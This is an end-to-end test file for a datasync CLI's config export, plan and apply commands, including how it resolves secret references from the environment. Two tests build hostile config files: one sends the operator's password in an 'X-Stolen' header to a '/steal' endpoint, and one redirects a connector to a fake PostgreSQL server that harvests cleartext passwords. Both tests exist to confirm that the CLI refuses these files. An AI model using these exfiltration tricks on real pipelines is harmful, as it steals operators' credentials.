// The datasync CLI (bin/datasync.mjs → scripts/datasync.ts) as a child process against the e2e
// server: export, plan and apply with an API token from DATASYNC_TOKEN; ${env:NAME} references
// resolved from the CLI's own environment, only for allowed names (docs/config-as-code.md).
import { execFile } from "node:child_process";
import { createServer } from "node:http";
import { createServer as createNetServer, type AddressInfo } from "node:net";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { expect, test } from "@playwright/test";
import { parse, stringify } from "yaml";
import { apiTokenFor, BASE_URL } from "../support/api";
import { dataWorkspace, pgConfiguration, type DataWorkspace } from "../support/data";

test.describe.configure({ timeout: 120_000 });

const BIN = path.resolve(__dirname, "../../bin/datasync.mjs");
let ws: DataWorkspace;
let token: string;
let dir: string;

interface Outcome {
  code: number;
  stdout: string;
  stderr: string;
}

/** Runs the CLI with only the environment given (and PATH): nothing of the test runner's leaks in. */
function cli(args: string[], env: Record<string, string> = {}): Promise<Outcome> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [BIN, ...args],
      { env: { NODE_ENV: "test", PATH: process.env.PATH ?? "", HOME: dir, DATASYNC_URL: BASE_URL, DATASYNC_TOKEN: token, ...env }, timeout: 60_000 },
      (err, stdout, stderr) => resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}

test.beforeAll(async ({ request }) => {
  ws = await dataWorkspace("config-cli");
  const source = await ws.admin.post("/api/v1/connectors", {
    connector: { name: "Warehouse", connector_type: "source", connector_name: "Postgresql", configuration: pgConfiguration() },
  });
  expect(source.status(), await source.text()).toBe(201);
  const model = await ws.admin.post("/api/v1/models", {
    model: { name: "Users", query: "SELECT id FROM users", query_type: "raw_sql", primary_key: "id", connector_id: Number((await source.json()).data.id) },
  });
  expect(model.status(), await model.text()).toBe(201);
  token = (await apiTokenFor(request, ws.admin)).token;
  dir = mkdtempSync(path.join(tmpdir(), "datasync-cli-"));
});

test.afterAll(async () => {
  rmSync(dir, { recursive: true, force: true });
  await ws.dispose();
});

test("export, plan and apply through the CLI", async () => {
  const file = path.join(dir, "workspace.yaml");
  const exported = await cli(["config", "export", file]);
  expect(exported, exported.stderr).toMatchObject({ code: 0 });
  const text = readFileSync(file, "utf8");
  expect(text).toContain("slug: warehouse");
  expect(text).toContain("${env:DATASYNC_SECRET_WAREHOUSE_CREDENTIALS_PASSWORD}");
  expect(text).not.toContain("unused-password");
  // Without a file: the same YAML on stdout.
  expect((await cli(["config", "export"])).stdout).toBe(text);

  const doc = parse(text) as { models: { query: string }[] };
  doc.models[0].query = "SELECT id FROM users WHERE active";
  writeFileSync(file, stringify(doc));
  const plan = await cli(["config", "plan", file]);
  expect(plan.code, plan.stderr).toBe(0);
  expect(plan.stdout).toContain("~ update model users");
  expect(plan.stdout).toContain('query: "SELECT id FROM users" → "SELECT id FROM users WHERE active"');
  expect(plan.stdout).toContain("Plan: 0 to create, 1 to update, 0 to delete, 1 unchanged.");
  // The secret reference had no value in the CLI's environment: the stored one is kept, with a warning.
  expect(plan.stderr).toContain("DATASYNC_SECRET_WAREHOUSE_CREDENTIALS_PASSWORD is not set");
  const unchanged = await (await ws.admin.get("/api/v1/models?per_page=100")).json();
  expect(unchanged.data[0].attributes.query).toBe("SELECT id FROM users");

  const applied = await cli(["config", "apply", file, "--json"]);
  expect(applied.code, applied.stderr).toBe(0);
  expect(JSON.parse(applied.stdout)).toMatchObject({ applied: true, summary: { update: 1 } });
  const after = await (await ws.admin.get("/api/v1/models?per_page=100")).json();
  expect(after.data[0].attributes.query).toBe("SELECT id FROM users WHERE active");
});

test("references resolve from the CLI's environment, only for allowed names", async () => {
  const file = path.join(dir, "new.yaml");
  const connector = (password: string) => ({
    version: 1,
    connectors: [{ slug: "copy", name: "Copy", connector_type: "source", connector_name: "Postgresql", configuration: pgConfiguration({ credentials: { auth_type: "username/password", username: "postgres", password } }) }],
  });
  // A name outside the allow-list is refused before any request.
  writeFileSync(file, stringify(connector("${env:DATABASE_URL}")));
  const refused = await cli(["config", "plan", file], { DATABASE_URL: "postgres://operator-secret" });
  expect(refused.code).toBe(2);
  expect(refused.stderr).toContain("--allow-env DATABASE_URL");
  // Allowed and set: the value travels in the request and plans a create, never echoed.
  const allowed = await cli(["config", "plan", file, "--allow-env", "DATABASE_URL", "--json"], { DATABASE_URL: "operator-secret-value" });
  expect(allowed.code, allowed.stderr).toBe(0);
  expect(JSON.parse(allowed.stdout).summary).toMatchObject({ create: 1 });
  expect(allowed.stdout).not.toContain("operator-secret-value");
  // A DATASYNC_SECRET_ name needs no flag only where the workspace's export puts it: a new
  // connector's target is whatever the file says, so its secret needs --allow-env, even under the
  // name export would give it.
  for (const name of ["DATASYNC_SECRET_COPY_PASSWORD", "DATASYNC_SECRET_COPY_CREDENTIALS_PASSWORD"]) {
    writeFileSync(file, stringify(connector(`\${env:${name}}`)));
    const fresh = await cli(["config", "plan", file], { [name]: "pw" });
    expect(fresh.code).toBe(2);
    expect(fresh.stderr).toContain(`\${env:${name}} stands in connector "copy" at configuration.credentials.password, which the workspace's export does not have`);
    expect(fresh.stderr).toContain(`--allow-env ${name}`);
  }
  // Allowed but unset: the server refuses the new connector (422, exit 1).
  const allowCopy = ["--allow-env", "DATASYNC_SECRET_COPY_CREDENTIALS_PASSWORD"];
  const unset = await cli(["config", "apply", file, ...allowCopy]);
  expect(unset.code).toBe(1);
  expect(unset.stderr).toContain("HTTP 422");
  expect(unset.stderr).toContain('connector "copy"');
  const set = await cli(["config", "apply", file, ...allowCopy], { DATASYNC_SECRET_COPY_CREDENTIALS_PASSWORD: "pw" });
  expect(set.code, set.stderr).toBe(0);
  expect(set.stdout).toContain("+ create connector copy");
});

test("a hostile file cannot move an exported secret reference into another connector's header: the CLI refuses, nothing reaches the receiver", async () => {
  const seen: string[] = [];
  const receiver = createServer((req, res) => {
    seen.push(JSON.stringify(req.headers));
    req.resume();
    req.on("end", () => res.writeHead(200).end("{}"));
  });
  await new Promise<void>((resolve) => receiver.listen(0, "127.0.0.1", resolve));
  try {
    const file = path.join(dir, "hostile.yaml");
    const exported = await cli(["config", "export", file, "--kinds", "connectors"]);
    expect(exported.code, exported.stderr).toBe(0);
    const doc = parse(readFileSync(file, "utf8")) as { connectors: Record<string, unknown>[] };
    const reference = "${env:DATASYNC_SECRET_WAREHOUSE_CREDENTIALS_PASSWORD}";
    expect(JSON.stringify(doc)).toContain(reference);
    // The attacker's addition: an HTTP destination at their server, the operator's password as a header.
    doc.connectors.push({
      slug: "exfil",
      name: "Exfil",
      connector_type: "destination",
      connector_name: "Http",
      configuration: { destination_url: `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/steal`, headers: { "X-Stolen": reference } },
    });
    writeFileSync(file, stringify(doc));
    const env = { DATASYNC_SECRET_WAREHOUSE_CREDENTIALS_PASSWORD: "operator-db-password-8815" };
    for (const command of ["plan", "apply"]) {
      const outcome = await cli(["config", command, file], env);
      expect(outcome.code, outcome.stdout).toBe(2);
      expect(outcome.stderr).toContain(`${reference} stands in connector "exfil" at configuration.headers.X-Stolen`);
      expect(outcome.stderr).toContain('may be used only in connector "warehouse" at configuration.credentials.password');
    }
    // Had the connector been created, its check would send the header: nothing was.
    const list = await (await ws.admin.get("/api/v1/connectors?per_page=100")).json();
    const exfil = (list.data as { id: string; attributes: { name: string } }[]).filter((c) => c.attributes.name === "Exfil");
    for (const c of exfil) await ws.admin.post(`/api/v1/connectors/${c.id}/check`, {});
    expect(exfil).toEqual([]);
    expect(seen.join("\n")).not.toContain("operator-db-password-8815");
  } finally {
    await new Promise((resolve) => receiver.close(resolve));
  }
});

/** A PostgreSQL server as an attacker runs one: it asks for the password in clear text and keeps every byte it gets. */
async function passwordCatcher(host: string): Promise<{ port: number; received: () => string; close: () => Promise<void> }> {
  const chunks: Buffer[] = [];
  const server = createNetServer((socket) => {
    let asked = false;
    socket.on("data", (data) => {
      chunks.push(data);
      // AuthenticationCleartextPassword ('R', length 8, code 3): the client answers with the password.
      if (!asked) socket.write(Buffer.from([0x52, 0, 0, 0, 8, 0, 0, 0, 3]));
      asked = true;
    });
    socket.on("error", () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return {
    port: (server.address() as AddressInfo).port,
    received: () => Buffer.concat(chunks).toString("latin1"),
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

test("a hostile file cannot keep the reference and point the connector at another host: the CLI refuses, the receiver gets nothing", async () => {
  // 127.0.0.2 is loopback too, and not the test database's host: a host of the attacker's.
  const catcher = await passwordCatcher("127.0.0.2");
  try {
    const file = path.join(dir, "retarget.yaml");
    const exported = await cli(["config", "export", file, "--kinds", "connectors"]);
    expect(exported.code, exported.stderr).toBe(0);
    const doc = parse(readFileSync(file, "utf8")) as { connectors: { slug: string; configuration: Record<string, unknown> }[] };
    const warehouse = doc.connectors.find((c) => c.slug === "warehouse");
    const reference = "${env:DATASYNC_SECRET_WAREHOUSE_CREDENTIALS_PASSWORD}";
    expect(JSON.stringify(warehouse?.configuration.credentials)).toContain(reference);
    // The attack: the reference stays where export put it; the host (and port) become the attacker's.
    Object.assign(warehouse!.configuration, { host: "127.0.0.2", port: catcher.port });
    writeFileSync(file, stringify(doc));
    const env = { DATASYNC_SECRET_WAREHOUSE_CREDENTIALS_PASSWORD: "operator-db-password-4471" };
    for (const command of ["plan", "apply"]) {
      const outcome = await cli(["config", command, file], env);
      expect(outcome.code, outcome.stdout).toBe(2);
      expect(outcome.stderr).toContain(`${reference} stands in connector "warehouse" at configuration.credentials.password, whose configuration.host, configuration.port differ from the workspace's export`);
      expect(outcome.stderr).toContain("--allow-env DATASYNC_SECRET_WAREHOUSE_CREDENTIALS_PASSWORD, or the value set explicitly");
      expect(outcome.stderr).toContain("Nothing was sent.");
    }
    // Had the file been applied, a check would log in to the attacker's server: the connector still
    // points at the real database, and the catcher heard nothing.
    const list = await (await ws.admin.get("/api/v1/connectors?per_page=100")).json();
    const stored = (list.data as { id: string; attributes: { name: string; configuration: Record<string, unknown> } }[]).find((c) => c.attributes.name === "Warehouse");
    expect(stored?.attributes.configuration.host).toBe(pgConfiguration().host);
    await ws.admin.post(`/api/v1/connectors/${stored!.id}/check`, {});
    expect(catcher.received()).toBe("");
  } finally {
    await catcher.close();
  }
});

test("usage and authentication errors", async () => {
  const noToken = await cli(["config", "export"], { DATASYNC_TOKEN: "" });
  expect(noToken.code).toBe(2);
  expect(noToken.stderr).toContain("DATASYNC_TOKEN");
  const badToken = await cli(["config", "export"], { DATASYNC_TOKEN: "not-a-token" });
  expect(badToken.code).toBe(1);
  expect(badToken.stderr).toContain("HTTP 401");
  const usage = await cli(["config", "frobnicate"]);
  expect(usage.code).toBe(2);
  expect(usage.stderr).toContain("Usage: datasync config");
});
